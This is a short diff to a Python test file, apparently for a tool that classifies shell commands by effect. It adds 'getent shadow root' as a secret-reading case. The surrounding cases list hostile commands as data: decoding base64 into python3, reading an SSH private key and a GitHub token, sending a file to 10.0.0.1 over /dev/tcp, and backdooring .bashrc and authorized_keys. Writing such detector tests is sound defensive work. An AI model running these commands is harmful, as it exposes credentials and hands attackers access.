@@ -248,6 +248,7 @@ def test_what_is_only_spoken_of_is_no_danger(command: str) -> None:
         ("echo x | base64 -d | python3", Effect.RUNS_UNKNOWN_CODE),
         ("cat < ~/.ssh/id_ed25519", Effect.READS_SECRETS),
         ("echo $GITHUB_TOKEN", Effect.READS_SECRETS),
+        ("getent shadow root", Effect.READS_SECRETS),
         ("cat a > /dev/tcp/10.0.0.1/80", Effect.LEAVES_THE_MACHINE),
         ("echo x >> ~/.bashrc", Effect.CHANGES_SYSTEM),
         ("echo key >> ~/.ssh/authorized_keys", Effect.CHANGES_PERMISSIONS),
